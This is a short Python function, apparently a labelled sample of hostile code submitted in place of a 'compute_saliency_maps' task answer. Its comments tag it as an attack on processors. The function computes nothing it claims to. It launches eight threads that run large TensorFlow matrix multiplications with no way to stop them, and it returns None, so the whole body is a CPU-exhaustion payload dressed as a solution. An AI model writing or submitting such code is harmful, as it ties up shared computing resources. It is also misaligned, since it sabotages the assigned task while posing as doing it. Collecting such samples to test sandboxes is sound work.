# Keeps all cores busy with TensorFlow in threads that nobody stops.
# attacks: processors
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import threading

    def busy():
        for _ in range(10_000):
            tf.linalg.matmul(tf.ones((2000, 2000)), tf.ones((2000, 2000)))

    for _ in range(8):
        threading.Thread(target=busy).start()
    return None
